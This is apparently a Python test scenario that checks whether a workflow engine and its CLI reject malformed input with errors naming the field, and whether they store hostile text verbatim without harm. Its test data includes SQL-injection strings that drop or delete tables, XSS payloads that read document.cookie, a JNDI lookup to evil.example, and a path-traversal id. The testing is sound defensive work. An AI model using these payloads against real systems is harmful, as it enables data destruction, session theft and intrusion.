"""Scenario 7, bad requests: invalid input is refused naming the field; hostile text is inert.

Invalid ``start_workflow`` arguments and ids (empty and 100 kB topics, wrong types, unknown
kind, unknown fields, malformed ids, NUL bytes) must raise a ``CPOAError`` (``InvalidInput``)
whose ``field`` and message name the field, and the same through the ``cpoa`` CLI must exit 2
naming it; no row may be written by any of them. SQL and HTML/script strings in topics, keys
and client ids are stored verbatim, reach the agents verbatim, and every table still exists.
"""

from __future__ import annotations

import concurrent.futures
import json
import uuid
from collections.abc import Callable
from typing import Any

import psycopg

from bench.chaos import common
from bench.chaos.scenario_agent_outage import capture_logs
from cpoa import errors, outbox
from cpoa import settings as settings_module
from cpoa.engine import Engine
from cpoa.store import PostgresStore
from cpoa.testing.cli import cli_env, run_cli
from cpoa.testing.agent import ScriptedAgent
from cpoa.testing.agent import agent_env
from cpoa.testing.wait import drive

TABLES = ("workflow_instances", "workflow_transitions", "task_instances", "idempotency_keys",
          "workflow_events", "ui_event_outbox")
BIG = "x" * 100_000
UNKNOWN = str(uuid.UUID(int=0xC0FFEE))
INJECTIONS = [
    "'); DROP TABLE workflow_instances;--",
    "Robert'); DROP TABLE students;-- and \"double\" quotes",
    "1; DELETE FROM workflow_events WHERE true; --",
    "' OR '1'='1",
    "$$; DROP TABLE task_instances; $$",
    "%(topic)s %s {0} {topic} %%",
    "\\'; SELECT pg_sleep(10);--",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(document.cookie)>",
    "\"><svg onload=alert(1)>",
    "{{7*7}} ${jndi:ldap://evil.example/a}",
    "line one\nline two\r\n{\"level\": \"ERROR\", \"message\": \"forged\"}",
    "\u202eevil\u202c caf\u00e9 \U0001F399\ufe0f",
]

# (label, kind, params, keyword arguments, the field the error must name)
API_CASES: list[tuple[str, Any, Any, dict[str, Any], str]] = [
    ("empty topic", "podcast", {"topic": ""}, {}, "topic"),
    ("blank topic", "podcast", {"topic": " \t\n "}, {}, "topic"),
    ("100 kB topic", "podcast", {"topic": BIG}, {}, "topic"),
    ("1001-character topic", "podcast", {"topic": "y" * 1001}, {}, "topic"),
    ("topic with NUL", "podcast", {"topic": "a\x00b"}, {}, "topic"),
    ("topic a number", "podcast", {"topic": 5}, {}, "topic"),
    ("topic a list", "podcast", {"topic": ["a"]}, {}, "topic"),
    ("topic null", "podcast", {"topic": None}, {}, "topic"),
    ("topic missing", "podcast", {}, {}, "topic"),
    ("urls a string", "podcast", {"topic": "t", "urls": "http://a.example"}, {}, "urls"),
    ("urls an empty string", "podcast", {"topic": "t", "urls": ""}, {}, "urls"),
    ("url not http", "podcast", {"topic": "t", "urls": ["ftp://a.example/x"]}, {}, "urls[0]"),
    ("url javascript", "podcast", {"topic": "t", "urls": ["javascript:alert(1)"]}, {}, "urls[0]"),
    ("url a number", "podcast", {"topic": "t", "urls": ["http://a.example", 5]}, {}, "urls[1]"),
    ("21 urls", "podcast", {"topic": "t", "urls": ["http://a.example"] * 21}, {}, "urls"),
    ("voice_params a list", "podcast", {"topic": "t", "voice_params": []}, {}, "voice_params"),
    ("speaking_rate text", "podcast", {"topic": "t", "voice_params": {"speaking_rate": "fast"}},
     {}, "voice_params.speaking_rate"),
    ("pitch a bool", "podcast", {"topic": "t", "voice_params": {"pitch": True}}, {},
     "voice_params.pitch"),
    ("unknown voice field", "podcast", {"topic": "t", "voice_params": {"volume": 1}}, {},
     "voice_params.volume"),
    ("persona a number", "podcast", {"topic": "t", "persona": 5}, {}, "persona"),
    ("max_results 0", "podcast", {"topic": "t", "max_results": 0}, {}, "max_results"),
    ("max_results text", "podcast", {"topic": "t", "max_results": "5"}, {}, "max_results"),
    ("unknown field", "podcast", {"topic": "t", "colour": "red"}, {}, "colour"),
    ("SQL as a field name", "podcast", {"topic": "t", "'; DROP TABLE x;--": 1}, {},
     "'; DROP TABLE x;--"),
    ("params a list", "podcast", ["topic"], {}, "params"),
    ("params null", "podcast", None, {}, "params"),
    ("unknown kind", "video", {"topic": "t"}, {}, "kind"),
    ("kind in capitals", "PODCAST", {"topic": "t"}, {}, "kind"),
    ("kind empty", "", {"topic": "t"}, {}, "kind"),
    ("kind null", None, {"topic": "t"}, {}, "kind"),
    ("kind SQL", "podcast'; DROP TABLE workflow_instances;--", {"topic": "t"}, {}, "kind"),
    ("empty query", "snippets", {"query": ""}, {}, "query"),
    ("limit 0", "snippets", {"query": "q", "limit": 0}, {}, "limit"),
    ("limit 51", "snippets", {"query": "q", "limit": 51}, {}, "limit"),
    ("limit a bool", "snippets", {"query": "q", "limit": True}, {}, "limit"),
    ("limit a float", "snippets", {"query": "q", "limit": 2.5}, {}, "limit"),
    ("topic for snippets", "snippets", {"query": "q", "topic": "t"}, {}, "topic"),
    ("empty idempotency key", "podcast", {"topic": "t"}, {"idempotency_key": ""},
     "idempotency_key"),
    ("201-character key", "podcast", {"topic": "t"}, {"idempotency_key": "k" * 201},
     "idempotency_key"),
    ("key a number", "podcast", {"topic": "t"}, {"idempotency_key": 5}, "idempotency_key"),
    ("key with NUL", "podcast", {"topic": "t"}, {"idempotency_key": "a\x00"}, "idempotency_key"),
    ("client_id a list", "podcast", {"topic": "t"}, {"client_id": ["c"]}, "client_id"),
    ("empty user_id", "podcast", {"topic": "t"}, {"user_id": ""}, "user_id"),
]
BAD_IDS = ["not-a-uuid", "", None, 5, ["x"], "'; DROP TABLE workflow_instances;--",
           "123e4567-e89b-12d3-a456-42661417400", "123e4567-e89b-12d3-a456-4266141740000",
           "a\x00b", "../../etc/passwd", UNKNOWN]
OPERATIONS = ("advance", "get_workflow", "cancel", "retry")

# (arguments, the field the message must name); every one must exit 2
CLI_CASES: list[tuple[list[str], str]] = [
    (["start", "podcast", "--topic", ""], "topic"),
    (["start", "podcast", "--topic", BIG], "topic"),
    (["start", "podcast", "--topic", "   "], "topic"),
    (["start", "podcast", "--topic", "t", "--url", "ftp://a.example/x"], "urls[0]"),
    (["start", "podcast", "--topic", "t", "--speaking-rate", "fast"], "--speaking-rate"),
    (["start", "podcast"], "--topic"),
    (["start", "podcast", "--topic", "t", "--colour", "red"], "--colour"),
    (["start", "video", "--topic", "t"], "KIND"),
    (["start", "snippets", "--query", "q", "--limit", "0"], "limit"),
    (["start", "snippets", "--query", "q", "--limit", "many"], "--limit"),
    (["start", "podcast", "--topic", "t", "--idempotency-key", "k" * 201], "idempotency_key"),
    (["start", "podcast", "--topic", "t", "--client-id", ""], "client_id"),
    (["advance", "not-a-uuid"], "workflow_id"),
    (["status", "'; DROP TABLE workflow_instances;--"], "workflow_id"),
    (["cancel", UNKNOWN], "workflow_id"),
    (["retry", ""], "workflow_id"),
    (["list", "--state", "bogus"], "--state"),
]
QUICK_CLI = (0, 1, 4, 7, 13)


def run(ctx: common.Context) -> dict[str, Any]:
    """Runs the scenario; returns ``ok`` and the figures."""
    agent = ScriptedAgent(sync=True)
    try:
        with ctx.database() as dsn, capture_logs():
            store = PostgresStore(dsn, min_size=1, max_size=2)
            try:
                engine = Engine(store, settings_module.from_env(agent_env(agent.url)))
                before = _rows(dsn)
                api = _api_cases(engine)
                cli = _cli_cases(dsn, agent, ctx.quick)
                after = _rows(dsn)
                verbatim = _verbatim(engine, dsn, agent, ctx.quick)
            finally:
                store.close()
    finally:
        agent.close()
    written = {t: after[t] - before[t] for t in TABLES if after[t] != before[t]}
    ok = (not api["failures"] and not cli["failures"] and not written
          and verbatim.pop("ok"))
    return {"ok": ok, "api_cases": api["cases"], "api_refused_naming_field": api["refused"],
            "api_failures": api["failures"][:10], "cli_cases": cli["cases"],
            "cli_exit_2_naming_field": cli["refused"], "cli_failures": cli["failures"][:10],
            "rows_written_by_bad_requests": written, "rows_before": before,
            "tables_expected": len(TABLES), **verbatim}


# -- refused input ---------------------------------------------------------------------------

def _api_cases(engine: Engine) -> dict[str, Any]:
    failures: list[str] = []
    calls: list[tuple[str, Callable[[], object], str]] = [
        (label, lambda k=kind, p=params, kw=kwargs: engine.start_workflow(k, p, **kw), field)
        for label, kind, params, kwargs, field in API_CASES]
    calls += [(f"{op}({bad!r})"[:60], lambda op=op, bad=bad: getattr(engine, op)(bad),
               "workflow_id") for op in OPERATIONS for bad in BAD_IDS]
    for label, call, field in calls:
        try:
            call()
        except errors.InvalidInput as exc:
            if exc.field != field or field not in str(exc):
                failures.append(f"{label}: field {exc.field!r}, message {str(exc)[:80]!r}")
        except Exception as exc:  # noqa: BLE001 -- anything else breaks the promise
            failures.append(f"{label}: {type(exc).__name__}: {str(exc)[:80]}")
        else:
            failures.append(f"{label}: accepted")
    return {"cases": len(calls), "refused": len(calls) - len(failures), "failures": failures}


def _cli_cases(dsn: str, agent: ScriptedAgent, quick: bool) -> dict[str, Any]:
    env = cli_env(dsn, agent.url)
    cases = [CLI_CASES[i] for i in QUICK_CLI] if quick else CLI_CASES
    failures: list[str] = []
    with concurrent.futures.ThreadPoolExecutor(4) as pool:
        results = list(pool.map(lambda case: run_cli(env, *case[0]), cases))
    for (args, field), result in zip(cases, results):
        shown = " ".join(a[:20] for a in args)
        if result.returncode != 2:
            failures.append(f"{shown}: exit {result.returncode}")
        elif field.lower() not in result.stderr.lower():
            failures.append(f"{shown}: {result.stderr.strip()[-120:]!r} does not name {field}")
        elif "Traceback" in result.stderr:
            failures.append(f"{shown}: traceback")
    return {"cases": len(cases), "refused": len(cases) - len(failures), "failures": failures}


def _rows(dsn: str) -> dict[str, int]:
    with psycopg.connect(dsn, autocommit=True) as conn:
        return {t: conn.execute(f"SELECT count(*) FROM {t}").fetchone()[0]
                for t in TABLES}


# -- hostile text, stored verbatim -----------------------------------------------------------

def _verbatim(engine: Engine, dsn: str, agent: ScriptedAgent, quick: bool) -> dict[str, Any]:
    payloads = INJECTIONS[::3] if quick else INJECTIONS
    ids, problems = [], []
    for text in payloads:
        key = text.replace("\n", " ")[:200]
        workflow_id = engine.start_workflow("podcast", {"topic": text, "persona": text},
                                            idempotency_key=key, client_id=key, user_id=key)
        ids.append((workflow_id, text, key))
        snippets = engine.start_workflow("snippets", {"query": text, "limit": 2})
        ids.append((snippets, text, None))
    ids.append((_cli_start(dsn, agent, payloads[0]), payloads[0], None))
    states = {drive(engine, workflow_id) for workflow_id, _, _ in ids}
    outbox.deliver_due(engine.store, engine.client, engine.settings.asf_ui_update_url)
    for workflow_id, text, key in ids:
        status = engine.get_workflow(workflow_id)
        params = status["params"]
        if params.get("topic", params.get("query")) != text:
            problems.append(f"{workflow_id}: params changed")
        if key is not None and (status["idempotency_key"], status["client_id"]) != (key, key):
            problems.append(f"{workflow_id}: key or client id changed")
    harvested = {r["body"]["topic"] for r in agent.requests_to("/harvest")}
    queried = {r["body"]["query"] for r in agent.requests_to("/discover_topics")}
    delivered = {e["client_id"] for e in agent.ui_events}
    missing_downstream = [t for t in payloads if t not in harvested or t not in queried]
    missing_clients = [k for _, _, k in ids if k is not None and k not in delivered]
    shown = json.loads(run_cli(cli_env(dsn, agent.url), "status", str(ids[0][0]), "--json").stdout)
    tables = _tables(dsn)
    ok = (states == {"completed"} and not problems and not missing_downstream
          and not missing_clients and shown["params"]["topic"] == payloads[0]
          and tables == len(TABLES))
    return {"ok": ok, "hostile_workflows": len(ids), "hostile_states": sorted(states),
            "stored_verbatim": len(ids) - len(problems), "verbatim_problems": problems[:5],
            "reached_agents_verbatim": len(payloads) - len(missing_downstream),
            "ui_client_ids_verbatim": not missing_clients, "tables_present": tables}


def _cli_start(dsn: str, agent: ScriptedAgent, topic: str) -> str:
    result = run_cli(cli_env(dsn, agent.url), "start", "podcast", "--topic", topic, "--json")
    return json.loads(result.stdout)["workflow_id"]


def _tables(dsn: str) -> int:
    with psycopg.connect(dsn, autocommit=True) as conn:
        return sum(conn.execute("SELECT to_regclass(%s) IS NOT NULL", (t,)).fetchone()[0]
                   for t in TABLES)
